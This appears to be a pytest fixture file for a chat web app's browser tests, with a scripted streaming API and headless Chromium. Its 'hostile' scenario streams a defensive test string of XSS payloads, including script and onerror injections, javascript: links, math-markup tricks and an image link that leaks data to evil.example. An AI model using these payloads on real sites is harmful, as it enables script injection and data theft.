"""A scripted API behind the real page, and one headless Chromium for all tests here.

The question names the scenario: "slow", "think", "hostile" ... (see `SCENARIOS`); any other text gets a plain answer.
"""

import asyncio
import json
import shutil
import socket
import threading
import time
from collections.abc import AsyncIterator, Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest
import uvicorn
from fastapi import FastAPI, Request
from fastapi.responses import JSONResponse, StreamingResponse

from fathom.app.routes import mount

FLAGS = [
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
CODE = """Here is a function:

```python
def area(width: float, height: float) -> float:
    # The area of a rectangle.
    return width * height
```

| Figure | Sides | Area |
| :--- | ---: | ---: |
| square | 4 | a² |
| triangle | 3 | ½ g h |

The circle: \\( A = \\pi r^2 \\). It costs $5 and $10.

1. one
2. two

> Measure twice, cut once.
"""
HOSTILE = """<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2">
<svg onload="window.pwned = 3"></svg><iframe srcdoc="<script>parent.pwned = 4</script>"></iframe>

[click](javascript:window.pwned=5) [data](data:text/html,<script>window.pwned=6</script>) [vb](vbscript:pwned)
[same](/chat/completions) [tab](java&#9;script:window.pwned=7) <a href="javascript:window.pwned=8">raw</a>

![secret](https://evil.example/leak.png?q=secret) [good words](https://honest.example/page)
![x" onerror="window.pwned=9](https://evil.example/x.png)
<https://auto.example/"onmouseover="window.pwned=10>

```html"><img src=x onerror=window.pwned=11>
</code></pre><script>window.pwned = 12</script>
```

$\\href{javascript:window.pwned=13}{x}$ \\(\\htmlId{x}{y}\\) $</span><img src=x onerror=window.pwned=14>$

<style>body { display: none }</style><form action="https://evil.example"><input name=q></form>
<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=15></style></mglyph></table></mtext></math>
"""
LONG_PARTS = [f"Sentence {n} of a very long answer, with **weight** and `code`. " for n in range(1000)]


@dataclass
class Mock:
    """What the scripted API does and has seen."""

    url: str = ""
    loading: bool = False
    requests: list[dict[str, Any]] = field(default_factory=list)
    cancelled: int = 0
    fail_next: int = 0
    thinks: bool = True
    key: str | None = None

    def reset(self) -> None:
        self.loading, self.requests, self.cancelled, self.fail_next, self.key = False, [], 0, 0, None
        self.thinks = True


def chunk(delta: dict[str, Any], finish: str | None = None, usage: dict[str, Any] | None = None) -> str:
    choices = [{"index": 0, "delta": delta, "finish_reason": finish}]
    body = {"id": "1", "object": "chat.completion.chunk", "model": "mock", "choices": choices, "usage": usage}
    return f"data: {json.dumps(body, ensure_ascii=False)}\n\n"


def text(*parts: str) -> list[str]:
    return [chunk({"content": part}) for part in parts]


def thoughts(*parts: str) -> list[str]:
    return [chunk({"content": None, "reasoning_content": part}) for part in parts]


def scenario(question: str) -> tuple[list[str], float]:
    """The events of an answer and the seconds between them."""
    word = question.split()[0].lower()
    if word == "slow":
        return text(*(f"Word{n} " if n % 12 else f"Word{n}\n\n" for n in range(1, 600))), 0.012
    if word == "think":
        return thoughts("First I count. ", "Then I *check*. ") + text("The answer is ", "42."), 0.35
    if word == "ponder":
        return thoughts(*(["Let me see. "] * 60)) + text("Never mind."), 0.1
    if word == "broken":
        error = {"message": "The engine stumbled", "type": "server_error"}
        return [*text("The begin"), f"data: {json.dumps({'error': error})}\n\n"], 0
    if word == "cut":
        return [*text("Half an ans"), "CUT"], 0
    if word == "empty":
        return [], 0
    if word == "code":
        return text(*(CODE[start : start + 7] for start in range(0, len(CODE), 7))), 0.002
    if word == "hostile":
        return text(*(HOSTILE[start : start + 9] for start in range(0, len(HOSTILE), 9))), 0.002
    if word == "long":
        return text(*(part + ("\n\n" if n % 6 == 5 else "") for n, part in enumerate(LONG_PARTS))), 0
    if word == "arabic":
        return text("مرحبًا! ", "هذه إجابة ", "بالعربية.\n\n", "And one line in English."), 0.01
    return text("Hello", " **world**", "!"), 0.01


async def stream(question: str, prompt_tokens: int, mock: Mock) -> AsyncIterator[str]:
    events, seconds = scenario(question)
    done = False
    try:
        yield ": keep-alive\n\n"
        yield chunk({"role": "assistant", "content": ""})
        for event in events:
            if event == "CUT":
                done = True
                return
            yield event
            await asyncio.sleep(seconds)
        usage = {"prompt_tokens": prompt_tokens, "completion_tokens": len(events), "total_tokens": 99}
        yield chunk({}, "stop")
        last = {"choices": [], "usage": {**usage, "prompt_cache_hit_tokens": 0, "prompt_cache_miss_tokens": 9}}
        yield f"data: {json.dumps(last)}\n\ndata: [DONE]\n\n"
        done = True
    finally:
        mock.cancelled += not done


def mock_app(mock: Mock) -> FastAPI:
    app = FastAPI()
    mount(app)

    @app.get("/health")
    async def health() -> JSONResponse:
        body = {"status": "loading" if mock.loading else "ready", "model": "mock", "thinks": mock.thinks}
        return JSONResponse(body, 503 if mock.loading else 200)

    @app.get("/models")
    async def models() -> dict[str, Any]:
        return {
            "object": "list",
            "data": [{"id": "mock", "object": "model"}, {"id": "deepseek-chat", "object": "model"}],
        }

    @app.post("/chat/completions", response_model=None)
    async def completions(request: Request) -> JSONResponse | StreamingResponse:
        body = await request.json()
        mock.requests.append(body)
        if mock.key and request.headers.get("authorization") != f"Bearer {mock.key}":
            return JSONResponse({"error": {"message": "Authentication Fails"}}, 401)
        if mock.fail_next:
            status, mock.fail_next = mock.fail_next, 0
            return JSONResponse({"error": {"message": "The request queue is full"}}, status)
        question = body["messages"][-1]["content"]
        return StreamingResponse(stream(question, len(body["messages"]), mock), media_type="text/event-stream")

    return app


@pytest.fixture(scope="session")
def mock_server() -> Iterator[Mock]:
    mock = Mock()
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    mock.url = f"http://127.0.0.1:{port}"
    config = uvicorn.Config(mock_app(mock), "127.0.0.1", port, log_level="warning", timeout_graceful_shutdown=1)
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started:
        assert time.monotonic() < deadline, "the scripted server did not start"
        time.sleep(0.02)
    yield mock
    server.should_exit = True
    thread.join(10)


@pytest.fixture
def mock(mock_server: Mock) -> Mock:
    mock_server.reset()
    return mock_server


@pytest.fixture(scope="session")
def browser() -> Iterator[Any]:
    playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    path = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
    if path is None:
        pytest.skip("no Chromium on this machine (Debian: apt-get install chromium)")
    with playwright.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=path, headless=True, args=FLAGS, chromium_sandbox=False)
        yield browser
        browser.close()


OpenPage = Callable[..., Any]


@pytest.fixture
def open_page(browser: Any, mock: Mock) -> Iterator[OpenPage]:
    """Opens the page in a fresh browser profile; an error in the page or a breach of its policy fails the test."""
    contexts = []
    complaints: list[str] = []

    def open_page(*, width: int = 1280, height: int = 800, locale: str = "en-GB", **options: Any) -> Any:
        context = browser.new_context(viewport={"width": width, "height": height}, locale=locale, **options)
        contexts.append(context)
        context.set_default_timeout(10_000)
        page = context.new_page()
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.on("console", lambda message: _collect(message, complaints))
        page.goto(mock.url)
        page.locator(".composer textarea").wait_for()
        return page

    yield open_page
    for context in contexts:
        context.close()
    assert not complaints, complaints


def _collect(message: Any, complaints: list[str]) -> None:
    # Chromium itself reports answers with an error status, which the scenarios send on purpose.
    if message.type == "error" and "Failed to load resource" not in message.text and "net::ERR" not in message.text:
        complaints.append(message.text)


@pytest.fixture
def page(open_page: OpenPage) -> Any:
    return open_page()


@pytest.fixture
def ask() -> Callable[..., None]:
    """Asks a question and, unless told otherwise, waits for the end of the answer."""

    def ask(page: Any, question: str, *, wait: bool = True) -> None:
        asked = page.locator("article.assistant").count()
        page.get_by_role("textbox", name="Message").fill(question)
        page.get_by_role("button", name="Send").click()
        if wait:
            page.locator("article.assistant").nth(asked).and_(page.locator('[aria-busy="false"]')).wait_for()
            page.get_by_role("button", name="Send").wait_for()

    return ask
